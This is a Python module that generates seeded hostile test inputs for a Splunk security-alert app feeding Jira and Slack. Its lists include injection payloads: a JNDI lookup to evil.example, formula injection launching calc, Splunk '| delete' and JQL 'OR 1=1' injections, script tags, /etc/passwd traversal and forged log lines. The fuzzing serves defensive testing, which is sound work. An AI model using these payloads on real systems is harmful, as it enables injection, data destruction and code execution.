"""Rows and documents as somebody hostile would write them, the same ones for the same seed.

Runs in the processes of both of Splunk's interpreters: standard library only, and Python 3.9.
"""

from __future__ import annotations

import json
import random
from typing import Any

#: What means something to somebody downstream, by whom.
PIECES: dict[str, list[str]] = {
    "Jira wiki": [
        "{noformat}", "{code:java}", "{color:red}", "{{x}}", "{html}", "[~admin]", "[click|http://evil.example]",
        "!http://evil.example/x.png!", "h1. big", "bq. quoted", "----", "||a||b||", "*bold*", "_x_", "-gone-", "+u+",
        "(/)", ":)", "\\\\", "\\", "{", "}", "[", "]", "|", "!", "^", "~", "#", "??cite??",
    ],
    "ADF": ['{"type":"mention","attrs":{"id":"1"}}', '"},{"type":"rule"},{"x":"', "</p><script>alert(1)</script>"],
    "Slack": [
        "<!channel>", "<!here|x>", "<@U0ALICE001>", "@channel", "<#C012ABCDE>", "<http://evil.example|good>", "`tick`",
        "```", "~x~", ":white_check_mark:", "> quote", "&lt;!channel&gt;", "&amp;", "&", "<", ">",
    ],
    "addresses": [
        "http://evil.example/a", "https://user:pw@evil.example/", "javascript:alert(1)", "mailto:x@y.example",
        "www.evil.example", "file:///etc/passwd", "data:text/html,x",
    ],
    "SPL": [
        '" | delete', "| outputlookup x", "`cloudtrail_index`", "$result.user$", "[search index=*]", "*", "''",
        "```x```", '") OR index=* (', "eventID IN (*)",
    ],
    "JQL": ['" OR project = "OPS', "' OR 1=1", "\\", '\\"', "currentUser()", "ORDER BY created"],
    "log lines": [
        "\n2026-01-01 00:00:00,000 ERROR pid=1 action=responder_remediate forged", "\r\nERROR forged", "\x1b[31m",
        "\x07",
        "\x85ERROR forged", "\u2028ERROR forged", "\u2029ERROR forged", "\x0bERROR forged", "\x1cERROR forged",
        '\n{"time": 1.000, "step": "verified"}', "%s%n", "%(message)s", "{0.__class__}",
    ],
    "spreadsheets": ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1", "\t=1"],
    "Unicode": [
        "\ud800", "\udfff\ud800", "\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\u3164", "\x00", "\ufffe",
        "a\u0301" * 20, "\U0001f98a", "\U000e0041", "\uff1c!channel\uff1e", "\u0130", "\ufdfa",
    ],
    "shapes": [" ", "\t", "", "%00", "../../etc/passwd", "${jndi:ldap://evil.example}", "{{7*7}}", "null", "-0"],
}  # fmt: skip
_ALL = [piece for pieces in PIECES.values() for piece in pieces]

_TEXTS = (
    "signature", "user", "user_type", "user_arn", "access_key_id", "src_ip", "src_country", "user_agent",
    "object_category", "object_id", "command", "reason", "dedup_key",
)  # fmt: skip
_FORMS: dict[str, list[str]] = {
    "signature_id": ["some_detection", "another_one", "Some", "x" * 200, ""],
    "severity": ["low", "critical", "urgent", ""],
    "mitre_technique_id": ["T1562.008", "T1562", "T\u0661\u0662\u0663\u0664", ""],
    "vendor_account": ["111122223333", "1" * 13, "\uff11" * 12, ""],
    "vendor_region": ["eu-central-1", "us-gov-west-1", "eu-central-1.evil.example", ""],
    "recommended_playbook": ["revoke_open_ingress", "../x", ""],
    "event_count": ["1", "0", "\u00b2", "1e3", "nan", "-1", "1_0", "9" * 400],
    "first_time": ["1700000000", "1700000000.5", "inf", "1e400", "\uff11", ""],
    "last_time": ["1700000060", "-0", "0x1", "1e10", ""],
    "throttle_seconds": ["0", "3600", "1e9", ""],
}


def text(rng: random.Random) -> str:
    """A text of some pieces; one in a hundred is long."""
    made = "".join(rng.choice(_ALL) + rng.choice(("", "", " ", "x", "A1")) for _ in range(rng.randint(1, 7)))
    return made * rng.randint(50, 200) if rng.random() < 0.01 else made


def row(rng: random.Random) -> dict[str, Any]:
    """A result row as it comes out of the results file: texts, and lists of texts. Many are findings; some are not."""
    made: dict[str, Any] = {
        "signature_id": "some_detection",
        "dedup_key": f"some_detection:{rng.random()}",
        "vendor_account": "111122223333",
        "event_ids": [event_id(rng) for _ in range(rng.randint(1, 3))],
        "first_time": "1700000000",
        "last_time": "1700000060",
    }
    for name in _TEXTS:
        if rng.random() < 0.5:
            made[name] = text(rng)
    for name, forms in _FORMS.items():
        if rng.random() < 0.04:
            made[name] = rng.choice(forms) if rng.random() < 0.7 else text(rng)
    if rng.random() < 0.25:
        made["detail"] = detail(rng)
    if rng.random() < 0.1:
        made["event_ids"] = [text(rng) for _ in range(rng.randint(1, 4))]
    if rng.random() < 0.05:
        made[rng.choice(_TEXTS)] = [text(rng), text(rng)]
    return made


def event_id(rng: random.Random) -> str:
    digits = f"{rng.getrandbits(128):032x}"
    return f"{digits[:8]}-{digits[8:12]}-{digits[12:16]}-{digits[16:20]}-{digits[20:]}"


def detail(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.6:
        return json.dumps({text(rng): text(rng), "rules": [{"cidr": text(rng), "rule_id": text(rng)}]})
    if kind < 0.7:
        return rng.choice('[{"') * rng.randint(1, 29_000)
    if kind < 0.8:
        return '{"a":' * 60 + "1" + "}" * 60
    endless = '{"a":' + "9" * 5_000 + "}"
    return rng.choice(['{"a":NaN}', '{"a":1e999}', endless, '{"\\ud800":"\\udfff"}', "[]", text(rng)])


def document(rng: random.Random) -> Any:
    """A stored finding that somebody has written by hand: a row in which any value may be anything."""
    made = row(rng)
    for name in rng.sample([*_TEXTS, *_FORMS, "event_ids", "detail"], rng.choice((0, 1, 1, 2))):
        made[name] = value(rng)
    return made if rng.random() < 0.97 else value(rng)


def value(rng: random.Random, levels: int = 4) -> Any:
    """Any JSON value; one in a hundred is deep or endless."""
    kind = rng.randrange(14 if levels else 9)
    if rng.random() < 0.01:
        return rng.choice((_deep(rng.choice((49, 51, 3_000))), 10**5_000, ["x"] * 50_000, "\u200b" * 200_000))
    if kind < 4:
        return text(rng)
    if kind < 9:
        return rng.choice((None, True, 0, -0.0, 1.5, 2**64, float("inf"), float("nan"), 1e300, -1))
    if kind < 12:
        return {text(rng): value(rng, levels - 1) for _ in range(rng.randint(0, 3))}
    return [value(rng, levels - 1) for _ in range(rng.randint(0, 3))]


def _deep(levels: int) -> Any:
    made: Any = "x"
    for level in range(levels):
        made = [made] if level % 2 else {"a": made}
    return made
